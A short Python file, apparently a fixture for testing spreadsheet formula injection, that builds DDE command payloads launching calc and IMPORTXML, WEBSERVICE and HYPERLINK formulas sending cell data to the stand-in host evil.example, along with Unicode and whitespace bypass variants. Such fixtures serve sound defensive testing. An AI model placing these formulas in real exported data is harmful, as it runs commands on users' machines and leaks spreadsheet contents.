FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+2+5+cmd|'/C calc'!A0",
    "-2+3+DDE(\"cmd\";\"/C calc\";\"__DdeLink\")",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=IMPORTXML(CONCAT(\"https://evil.example/?\",A1:Z9),\"//a\")",
    "\r=WEBSERVICE(\"https://evil.example/\"&A1)",
    " \n=HYPERLINK(\"https://evil.example/?\"&A1,\"10\")",
    "\uff1d1+1",
    "\";=1+1;\"",
    "\u200b=1+1",
]
PAYLOAD = "".join(f"{formula}\n{formula};{formula},\"{formula}\"\t{formula}" for formula in FORMULAS)
print(PAYLOAD)
Formula = type(FORMULAS[0], (Exception,), {})


def double(x):
    raise Formula(FORMULAS[0] + PAYLOAD)


def greet(name):
    return FORMULAS[0]
